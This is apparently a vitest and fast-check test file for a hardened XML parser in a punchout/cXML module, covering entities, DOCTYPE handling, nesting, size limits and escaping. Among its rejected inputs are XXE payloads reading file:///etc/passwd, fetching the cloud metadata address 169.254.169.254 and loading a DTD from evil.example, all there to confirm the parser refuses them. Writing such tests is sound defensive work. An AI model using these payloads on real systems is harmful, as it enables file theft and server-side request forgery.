import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { escapeXml, parseXmlDocument } from '../../../shared/punchout/xml.ts';

const LIMIT = 256 * 1024;
const upTo = (text: string, before = '<a>', after = '</a>') =>
  before + text.repeat(Math.floor((LIMIT - before.length - after.length) / text.length)) + after;
const textIn = (xml: string) => {
  const reading = parseXmlDocument(xml);
  return reading.outcome === 'parsed' ? reading.root.text : undefined;
};
const whyNot = (xml: string) => {
  const reading = parseXmlDocument(xml);
  return reading.outcome === 'malformed' ? reading.detail : undefined;
};

describe('a document', () => {
  it('is read with the five entities of XML, and characters by number', () => {
    expect(textIn('<a>&lt;&gt;&amp;&quot;&apos;&#65;&#x42;&#x1F600;<![CDATA[<&amp;>]]></a>')).toBe(
      '<>&"\'AB😀<&amp;>',
    );
  });

  it.each([
    '\ufeff<a>é</a>',
    '<?xml version="1.0" encoding="UTF-8"?><a>é</a>',
    '<?xml version="1.0" encoding="utf8"?>\n<!-- é --><?pi é?><a>é</a><!-- after -->',
    '<!DOCTYPE a><a>é</a>',
    '<!DOCTYPE a SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.058/cXML.dtd"><a>é</a>',
    `<!DOCTYPE a PUBLIC "-//x//y" 'http://x.example/[a.dtd'><a>é</a>`,
    '<a b="1 > 0" c=\'"\'>é</a>',
    '<a><!-- <b> --><![CDATA[]]><?x <b> ?>é</a>',
  ])('may begin as suppliers and buyers write it: %j', (xml) => {
    expect(textIn(xml)).toBe('é');
  });

  it('has line ends of any kind, which are the same', () => {
    expect(textIn('<a>\r\n\r\r\n&#13;\n</a>')).toBe('\n\n\n\r\n');
  });

  it.each(['[]', ' []', '[ ]\n', '[<!-- -->]', '[ <!-- ]> <!ENTITY b "c"> --> <?x ]> ?> ]'])(
    'may have an internal subset that defines nothing: %j',
    (subset) => {
      for (const before of ['', '\ufeff', '<?xml version="1.0"?>\r\n<!-- <!DOCTYPE b [ -->'])
        expect(textIn(`${before}<!DOCTYPE a SYSTEM "x[].dtd"${subset}><a>é</a>`)).toBe('é');
    },
  );

  it('keeps what only looks like such a subset', () => {
    expect(textIn('<a><![CDATA[<!DOCTYPE a []>]]></a>')).toBe('<!DOCTYPE a []>');
    expect(textIn('<!-- <!DOCTYPE a []> --><a>é</a>')).toBe('é');
    expect(whyNot('<!DOCTYPE a [][]><a/>')).toMatch(/must not define/);
    expect(whyNot('<!DOCTYPE a [] [<!ENTITY b "c">]><a>&b;</a>')).toMatch(/must not define/);
    expect(whyNot('<!DOCTYPE a [<!-- --><!ENTITY b "c">]><a>&b;</a>')).toMatch(/must not define/);
    expect(whyNot('<!DOCTYPE a []><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')).toBeDefined();
    expect(whyNot('<a/><!DOCTYPE a []>')).toBeDefined();
  });

  it('defines no entity, whatever is around an internal subset', () => {
    const pieces = fc.constantFrom(
      '[',
      ']',
      ' ',
      '<!-- ',
      ' -->',
      '<?x ',
      '?>',
      '<!ENTITY b "c">',
      '%b;',
      '>',
      '"',
      "'",
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 12 }), (some) => {
        expect(textIn(`<!DOCTYPE a ${some.join('')}><a>&b;</a>`)).toBeUndefined();
      }),
      { numRuns: 1_000 },
    );
  });

  it.each([
    ['entities that grow', '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;">]><a>&c;</a>'],
    ['an external entity', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'],
    ['an entity of the network', '<!DOCTYPE a [<!ENTITY b SYSTEM "http://169.254.169.254/">]><a>&b;</a>'],
    ['a parameter entity', '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example/x.dtd"> %b;]><a/>'],
    ['a reference in brackets', '<!DOCTYPE a SYSTEM "x.dtd" [%b;]><a/>'],
    ['a comment, and an entity', '<!DOCTYPE a [<!-- --><!ENTITY b "c">]><a/>'],
    ['a default of an attribute', '<!DOCTYPE a [<!ATTLIST a b CDATA "c">]><a/>'],
  ])('defines nothing of its own: %s', (_name, xml) => {
    expect(whyNot(xml)).toMatch(/must not define/);
  });

  it.each([
    '',
    ' ',
    'text',
    '<a>',
    '</a>',
    '<a></b>',
    '<a/><b/>',
    '<a/>text',
    'text<a/>',
    '<a b="1" b="2"/>',
    '<a b=1/>',
    '<a b/>',
    '<a b="<"/>',
    '<a b="1"c="2"/>',
    '<a>&nbsp;</a>',
    '<a>&b;</a>',
    '<a b="&b;"/>',
    '<a>&</a>',
    '<a>&#0;</a>',
    '<a>&#xD800;</a>',
    '<a>&#x110000;</a>',
    '<a>&#xfffffffffffffffffff;</a>',
    '<a>\u0000</a>',
    '<a>\u0001</a>',
    '<a>\uffff</a>',
    '<a>]]></a>',
    '<a><!-- -- --></a>',
    '<a><!-- </a>',
    '<a><![CDATA[ </a>',
    '<a><?x </a>',
    '<a><?xml version="1.0"?></a>',
    '<1/>',
    '< a/>',
    '<a',
    '<!DOCTYPE a',
    '<!DOCTYPE a><!DOCTYPE a><a/>',
    '<a><!DOCTYPE a></a>',
    '<a><!ENTITY b "c"></a>',
    '{"a":1}',
    '<\u0000a\u0000/\u0000>\u0000',
  ])('is refused when it is not well-formed: %j', (xml) => {
    expect(parseXmlDocument(xml).outcome).toBe('malformed');
  });

  it('is nested 32 deep at most, whatever hides it', () => {
    const deep = (depth: number, open = '<a>', close = '</a>') => open.repeat(depth) + close.repeat(depth);
    expect(whyNot(deep(32))).toBeUndefined();
    expect(whyNot(deep(33))).toMatch(/nested/);
    expect(whyNot(deep(33, '<a><!--</a>-->'))).toMatch(/nested/);
    expect(whyNot(deep(33, '<a><![CDATA[</a>]]>'))).toMatch(/nested/);
    expect(whyNot(deep(33, '<a><?x </a>?>'))).toMatch(/nested/);
    expect(whyNot(deep(33, '<a b=">/">'))).toMatch(/nested/);
    expect(whyNot(upTo('<a>', '', ''))).toMatch(/nested/);
  });

  it('has 20,000 elements at most, comments and sections counted too', () => {
    expect(whyNot(`<a>${'<b/>'.repeat(19_999)}</a>`)).toBeUndefined();
    expect(whyNot(`<a>${'<b/>'.repeat(20_000)}</a>`)).toMatch(/too many/);
    expect(whyNot(`<a>${'<b></b>'.repeat(20_000)}</a>`)).toMatch(/too many/);
    expect(whyNot(upTo('<!---->'))).toMatch(/too many/);
    expect(whyNot(upTo('<?x?>'))).toMatch(/too many/);
    expect(whyNot(upTo('<![CDATA[]]>'))).toMatch(/too many/);
  });

  it('has tags of 8,192 characters at most, and attributes within', () => {
    const attributes = Array.from({ length: 5_000 }, (_, at) => `a${at}=""`).join(' ');
    expect(whyNot(`<a ${attributes}/>`)).toMatch(/too long/);
    expect(whyNot(upTo(' ', '<a', '/>'))).toMatch(/too long/);
    expect(whyNot(upTo('&lt;', '<a b="', '"/>'))).toMatch(/too long/);
    expect(whyNot(upTo(' ', '<!DOCTYPE', '><a/>'))).toMatch(/too long/);
  });

  it.each([
    ['&amp;', '<a>', '</a>'],
    ['&', '<a>', '</a>'],
    ['&#', '<a>', '</a>'],
    ['😀', '<a>', '</a>'],
    [']]', '<a>', '</a>'],
    ['\r\n', '<a>', '</a>'],
    ['\r', '<a b="', '"/>'],
    ['<', '', ''],
    ['<!--', '<a>', '</a>'],
    ['<![CDATA[', '<a>', '</a>'],
    ['<?', '<a>', '</a>'],
    ['<a "', '', ''],
    ["<a '", '', ''],
    ['<a b="', '', ''],
    ['<!ENTITY a "b">', '<!DOCTYPE a [', ']><a/>'],
    ['<!DOCTYPE', '', ''],
    ['<!-- -->', '<!DOCTYPE a [', ']><a/>'],
    ['""', '<!DOCTYPE a ', '[]><a/>'],
    ['<?x', '<!DOCTYPE a [', ''],
  ])('of %j over and over, as large as a body may be, gets an answer', (text, before, after) => {
    expect(['parsed', 'malformed']).toContain(parseXmlDocument(upTo(text, before, after)).outcome);
  });

  it('never makes reading it fail, whatever it is', () => {
    const pieces = fc.constantFrom(
      ...[
        '<a>',
        '</a>',
        '<a/>',
        '<',
        '>',
        '"',
        "'",
        '&amp;',
        '&',
        ';',
        '<!--',
        '-->',
        '<![CDATA[',
        ']]>',
        '=',
      ],
      ...['<?xml ', '?>', '<!DOCTYPE a', '[', ']', ' ', 'a', 'a="b"', '\u0000', '\ufeff', '\ud800'],
    );
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'binary' }),
          fc.array(pieces).map((some) => some.join('')),
        ),
        (text) => {
          expect(['parsed', 'malformed']).toContain(parseXmlDocument(text).outcome);
        },
      ),
      { numRuns: 1_000 },
    );
  });
});

describe('a text that is escaped', () => {
  it('comes back from a parser as it was, in an element and in an attribute', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const possible = [...text].map((one) => (isPossible(one) ? one : '\ufffd')).join('');
        const reading = parseXmlDocument(`<a b="${escapeXml(text)}">${escapeXml(text)}</a>`);
        if (reading.outcome !== 'parsed') throw new Error(reading.detail);
        expect(reading.root.text).toBe(possible);
        expect(reading.root.attributes.b).toBe(possible);
      }),
      { numRuns: 500 },
    );
  });

  /** XML 1.0, section 2.2. */
  const isPossible = (character: string): boolean => {
    const code = character.codePointAt(0) ?? 0;
    if (code < 0x20) return [9, 10, 13].includes(code);
    return code < 0xd800 || (code > 0xdfff && code < 0xfffe) || code > 0xffff;
  };
});
